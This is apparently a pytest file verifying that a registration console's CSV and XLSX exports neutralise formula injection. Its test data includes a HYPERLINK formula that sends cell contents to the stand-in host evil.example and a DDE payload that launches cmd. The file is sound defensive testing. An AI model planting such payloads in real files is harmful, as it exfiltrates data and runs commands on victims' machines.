"""Exports cannot execute: a resident's or a station's text that begins like a formula (``=``,
``+``, ``-``, ``@``, tab, CR) reaches CSV and XLSX files as inert text with a leading ``'``
(OWASP, "CSV Injection"), in the hand-off, the console's reports and the station's monthly
report; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

from console_kit import Console, post
from openpyxl import load_workbook

from common.cells import safe_cell
from content.stats_report import COLUMNS, MonthReport, write_csv, write_xlsx

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&D2&F2,"点击查看")', "=1+1", "=cmd|' /C calc'!A0",
            "@SUM(1,1)", "+86 136 9876 5432", "-2+3", "\t=1+1", "\r=1+1"]


def _ingest(console: Console, start: int) -> None:
    if not any(s.id == "s-1" for s in console.store.stations()):
        console.store.add_station("s-1", "测试站")
    t = "2026-11-19T09:00:00+08:00"
    items = [{"key": f"fx-key-{start + i:06d}", "created_at": t,
              "payload": {"code": f"F{start + i:05d}", "kind": "求职", "station_id": "s-1", "created_at": t,
                          "person": {"name": f, "id_number": "520103197812120018", "phone": f[:32], "address": f},
                          "answers": {"意向": f}}} for i, f in enumerate(FORMULAS)]
    assert all(r["status"] == "created" for r in console.store.ingest("s-1", "registration", items))


def _no_formula(sheet) -> int:  # type: ignore[no-untyped-def]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and [c.coordinate for c in cells if c.data_type == "f"] == []
    return len(cells)


def test_the_handoff_csv_and_xlsx_write_formula_names_as_inert_text(console: Console) -> None:
    registrar = console.client("registrar")
    _ingest(console, 0)
    response = post(registrar, "/console/registrations/handoff/export", {"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    assert [r["姓名"] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r["联系电话"] for r in rows] == ["'" + f[:32] for f in FORMULAS]  # ingest keeps phones to 32
    assert all(r["公民身份号码"] == "520103197812120018" for r in rows)  # ordinary text is untouched
    for r in rows:
        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())

    _ingest(console, 100)
    response = post(registrar, "/console/registrations/handoff/export", {"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    _no_formula(sheet)
    # (XML keeps no bare CR: openpyxl reads it back as LF.)
    assert [sheet.cell(row=i, column=5).value for i in range(2, 2 + len(FORMULAS))] == [
        "'" + f.replace("\r", "\n") for f in FORMULAS]


def test_the_console_reports_write_station_names_as_inert_text(console: Console) -> None:
    console.store.add_station("s-1", "=HYPERLINK(\"http://evil.example/\",\"城东\")")
    t = "2026-11-05T10:00:00+08:00"
    console.store.ingest("s-1", "event", [{"key": "ev-key-0001", "created_at": t, "payload": {"event": "card_read"}}])
    client = console.client("editor")
    response = client.get("/console/reports/ledger?month=2026-11&format=xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    _no_formula(sheet)
    assert sheet["B4"].value == "'=HYPERLINK(\"http://evil.example/\",\"城东\")"
    assert sheet["C4"].value == 1 and sheet["C4"].data_type == "n"


def test_the_station_month_report_keeps_numbers_and_neutralises_text(tmp_path: Path) -> None:
    width = len(COLUMNS)
    report = MonthReport("s-1", "=1+1", dt.date(2026, 11, 1),
                         [["-2026-11-01", *([-3] * (width - 1))], ["2026-11-02", *([1] * (width - 1))]])
    sheet = load_workbook(write_xlsx(report, tmp_path / "r.xlsx")).active
    _no_formula(sheet)
    assert sheet["A1"].value.startswith("'=1+1")
    assert sheet["A3"].value == "'-2026-11-01"
    assert sheet["B3"].value == -3 and sheet["B3"].data_type == "n"  # a real negative number stays a number
    text = write_csv(report, tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][0] == "'-2026-11-01" and rows[1][1] == "-3"


def test_safe_cell_prefixes_only_text_that_starts_a_formula() -> None:
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@a", "\t1", "\r1")] == ["'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1"]
    assert [safe_cell(v) for v in ("赵六", "1=1", "", -5, 2.5, None)] == ["赵六", "1=1", "", -5, 2.5, None]
